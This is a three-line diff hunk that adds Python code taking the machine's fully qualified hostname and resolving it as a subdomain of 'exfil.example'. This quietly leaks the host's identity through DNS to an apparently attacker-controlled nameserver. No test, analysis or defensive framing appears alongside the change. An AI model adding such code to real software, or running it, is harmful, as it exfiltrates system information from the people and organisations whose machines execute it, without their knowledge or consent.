@@ -1,0 +1,3 @@
+import socket
+name = socket.getfqdn()
+socket.gethostbyname(name + '.exfil.example')
